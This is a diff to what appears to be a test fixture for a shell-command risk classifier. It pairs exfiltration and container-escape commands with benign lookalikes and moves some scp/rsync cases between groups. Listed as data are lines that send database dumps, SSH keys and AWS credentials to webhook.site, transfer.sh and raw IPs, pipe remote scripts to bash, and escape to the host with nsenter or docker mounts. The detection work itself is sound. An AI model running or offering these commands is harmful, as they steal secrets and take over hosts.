@@ -125,12 +125,10 @@ HISTORY = {
     ]),
     "TRI-EXFIL-001": ([
         "curl -T dump.sql.gz ftp://203.0.113.7/", 'curl -F "file=@/var/backups/db.sql.gz" https://transfer.sh',
-        "scp /tmp/db.tgz user@203.0.113.9:/tmp/", "tar czf - /var/www | nc 198.51.100.7 9000",
-        "nc 198.51.100.7 9000 < /tmp/db.sql", "cat app.log | curl -F 'f:1=<-' ix.io",
-        "wget --post-file=/tmp/x.tgz http://203.0.113.7/up", "curl -sk -T /dev/shm/.c.tgz https://198.51.100.4:8443/",
-        'curl -d "$(cat /etc/hosts)" https://webhook.site/abc', "tar czf - /srv/app | ssh u@203.0.113.7 'cat > a.tgz'",
-        "ssh u@203.0.113.7 'cat > db.sql' < /tmp/db.sql", "cat /tmp/db.sql > /dev/tcp/203.0.113.7/80",
-        "rsync -az /var/www/ x@[2001:db8:4::7]:/srv/",
+        "tar czf - /var/www | nc 198.51.100.7 9000", "nc 198.51.100.7 9000 < /tmp/db.sql",
+        "cat app.log | curl -F 'f:1=<-' ix.io", "wget --post-file=/tmp/x.tgz http://203.0.113.7/up",
+        "curl -sk -T /dev/shm/.c.tgz https://198.51.100.4:8443/", 'curl -d "$(cat /etc/hosts)" https://webhook.site/abc',
+        "cat /tmp/db.sql > /dev/tcp/203.0.113.7/80", "rclone copy /srv/db.tgz x:b --s3-endpoint https://x.ngrok-free.app",
     ], [
         "scp user@203.0.113.9:/tmp/file .", "scp dump.sql backup01:/srv/", "rsync -a /srv/ 10.0.0.5:/srv/",
         "curl -X POST -d '{\"a\":1}' https://api.example.com/x", "curl -T x http://localhost:8080/",
@@ -138,13 +136,15 @@ HISTORY = {
         "rsync -av /srv/ /mnt/backup/", "scp f user@db1.internal:/tmp/", "ssh admin@203.0.113.7",
         "ssh -i key u@203.0.113.7 uptime", "pg_dump db | ssh backup01 'cat > db.sql'", "echo > /dev/tcp/10.0.0.5/5432",
         "ssh u@203.0.113.7 uptime < /dev/null", "rsync -az /var/www/ backup@files.example.org:/srv/",
-        "curl --data-binary @/tmp/out.tgz https://drop.example.net/u",
+        "curl --data-binary @/tmp/out.tgz https://drop.example.net/u", "scp nginx.conf deploy@203.0.113.10:/etc/nginx/",
     ]),
-    # the same to a named host: backups and API calls look like this every day
+    # deploys and backups with scp/rsync/ssh, and anything to a named host: servers do that every day
     "TRI-EXFIL-003": ([
         "rsync -az /var/backups/ backup@files.example.org:/srv/", "curl --data-binary @/tmp/out.tgz https://drop.example.net/u",
-        "pg_dump appdb | ssh backup@offsite.example.com 'cat > appdb.sql'",
-    ], ["scp /tmp/db.tgz user@203.0.113.9:/tmp/", "rsync -a /srv/ 10.0.0.5:/srv/", "scp dump.sql backup01:/srv/"]),
+        "pg_dump appdb | ssh backup@offsite.example.com 'cat > appdb.sql'", "scp /tmp/db.tgz user@203.0.113.9:/tmp/",
+        "tar czf - /srv/app | ssh u@203.0.113.7 'cat > a.tgz'", "ssh u@203.0.113.7 'cat > db.sql' < /tmp/db.sql",
+        "rsync -az /var/www/ x@[2001:db8:4::7]:/srv/",
+    ], ["rsync -a /srv/ 10.0.0.5:/srv/", "scp dump.sql backup01:/srv/", "curl -T dump.sql.gz ftp://203.0.113.7/"]),
     "TRI-EXFIL-002": ([
         "scp ~/.ssh/id_rsa user@203.0.113.9:", "curl -F f=@/root/.aws/credentials https://webhook.site/abc",
         "tar czf - ~/.ssh | curl -T - https://transfer.sh/k.tgz", "rsync -a /root/.ssh/ x@198.51.100.2:/tmp/k/",
@@ -184,6 +184,7 @@ HISTORY = {
         "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
         "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
         'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
+        "curl -sS https://getcomposer.org/installer | php", "curl https://rclone.org/install.sh | sudo bash",
         "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
     ], ["curl -s http://198.51.100.7/x.sh | bash", "curl https://get.docker.com.evil.example/x | sh"]),
     "TRI-EXEC-008": ([
@@ -213,7 +214,8 @@ HISTORY = {
     "TRI-EXEC-005": ([
         "docker run -v /:/host -it alpine chroot /host sh", "docker run --rm -it -v /:/mnt alpine",
         "docker run -it --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh",
-        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "sudo podman run -v /:/h:rw fedora",
+        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "nsenter -a -t 1", "sudo nsenter -t1 -m -p sh",
+        "sudo podman run -v /:/h:rw fedora",
         "docker run --mount type=bind,source=/,target=/host alpine",
         "docker run -v /etc:/mnt/etc alpine sh -c 'echo x >> /mnt/etc/passwd'",
         "ctr run --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest x sh",
@@ -225,7 +227,7 @@ HISTORY = {
         "docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro --volume=/sys:/sys:ro --privileged "
         "--device=/dev/kmsg gcr.io/cadvisor/cadvisor", "docker run -d -v /var/run/docker.sock:/var/run/docker.sock "
         "gitlab/gitlab-runner:latest", "docker run --privileged -d --name dind docker:dind",
-        "nsenter -t 12345 -n ss -ltnp", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
+        "nsenter -t 12345 -n ss -ltnp", "sudo nsenter -t 1 -m -- df -h", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
         "docker run -v /srv/data:/data postgres:16", "docker run -v $(pwd):/app -w /app node:20 npm test",
         "docker run -v /etc/localtime:/etc/localtime:ro app", "docker run -v /etc/nginx:/etc/nginx:ro nginx",
         "docker run -v /etc:/host/etc:ro datadog/agent",
